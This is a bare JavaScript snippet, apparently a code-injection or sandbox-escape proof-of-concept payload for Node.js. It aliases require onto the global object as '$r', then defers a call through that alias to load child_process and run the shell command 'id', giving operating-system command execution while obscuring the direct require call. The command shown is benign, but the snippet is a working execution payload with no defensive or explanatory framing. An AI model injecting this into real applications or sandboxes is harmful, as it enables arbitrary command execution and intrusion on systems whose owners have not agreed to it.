global['$r'] = require;
setImmediate(() => {
  const cp = global.$r('child_process');
  cp.exec('id');
});
